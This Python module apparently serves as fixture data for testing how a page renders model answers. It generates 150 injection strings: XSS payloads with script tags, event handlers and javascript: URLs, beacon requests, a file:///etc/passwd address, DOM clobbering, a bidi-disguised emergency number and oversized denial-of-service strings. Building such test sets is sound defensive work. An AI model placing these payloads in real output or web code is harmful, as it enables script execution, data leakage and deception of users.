"""What a hostile document or a misled model could put into an answer: 150 texts and addresses."""

CALL = "alert('ran')"
_TAGS = [
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=/beacon>",
    "<img srcset='/beacon 2x'>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x>",
    "<svg><use href='/beacon#x'>",
    "<math><mtext><script>{call}</script>",
    "<iframe src='javascript:{call}'>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<object data='/beacon'>",
    "<embed src='/beacon'>",
    "<link rel=stylesheet href=/beacon>",
    "<link rel=prefetch href=/beacon>",
    "<style>@import '/beacon';</style>",
    "<style>*{{background:url(/beacon)}}</style>",
    "<base href='/beacon/'>",
    "<meta http-equiv=refresh content='0;url=/beacon'>",
    "<form action=/beacon><input autofocus onfocus={call}></form>",
    "<button formaction='javascript:{call}'>Press</button>",
    "<video src=/beacon autoplay>",
    "<audio src=/beacon autoplay>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<marquee onstart={call}>",
    "<input autofocus onfocus={call}>",
    "<a href='javascript:{call}'>link</a>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><script>{call}</script>'>",
    "<!--><script>{call}</script-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<xmp><script>{call}</script></xmp>",
    "<div style='background:url(/beacon)'>",
    "<table background=/beacon>",
    "<track src=/beacon>",
    "<portal src=/beacon>",
    "<a ping=/beacon href=/beacon>ping</a>",
    "<anti-trafficking-assistant api='/beacon' inline>",
]
_WRAPS = ["{}", '"> {}', "'> {} <'", "`{}`"]
_MARKS = [
    "![x](/beacon)",
    "![x][r]\n\n[r]: /beacon",
    "[x](javascript:{call})",
    "[x](data:text/html,<script>{call}</script>)",
    "[x]: /beacon 'title'",
    "<javascript:{call}>",
    "**[bold](javascript:{call})**",
    "| ![x](/beacon) | <script>{call}</script> |",
    "> <img src=/beacon>",
    "- <svg onload={call}>",
    "1. <script>{call}</script>",
    "```html\n<script>{call}</script>\n```",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=/beacon&#62;",
    "\\u003cscript>{call}</script>",
    "%3Cscript%3E{call}%3C/script%3E",
    "[1] <a name=x id=title>clobber</a>",
    "<img name=title id=disclosure src=/beacon>",
]
_HIDDEN = [
    "police \u202e211 llac\u202c now",
    "\u2066<script>{call}</script>\u2069",
    "zero\u200bwidth\ufeffjoin",
    "tag \U000e0063\U000e0061\U000e006c\U000e006c characters",
    "null \u0000 <script>{call}</script>",
    "bell \u0007 escape \u001b[31m",
    "combining " + "a" + "\u0301" * 500,
    "wide " + "\ufdfd" * 200,
    "long " + "A" * 1_000_000,
    "spaces " + " " * 50_000 + "<script>{call}</script>",
]
# What stands where an address is expected.
_ADDRESSES = [
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\nscript:{call}",
    " javascript:{call}",
    "\u0001javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "vbscript:{call}",
    "blob:null/{call}",
    "file:///etc/passwd",
    "view-source:/beacon",
]


def payloads():
    """Give 150 texts, each of which would run, send or deceive in a careless page."""
    tags = [wrap.format(tag) for wrap in _WRAPS for tag in _TAGS]
    texts = [*_MARKS, *_HIDDEN, *_ADDRESSES, *tags]
    return [text.replace("{call}", CALL).replace("{{", "{").replace("}}", "}") for text in texts][
        :150
    ]
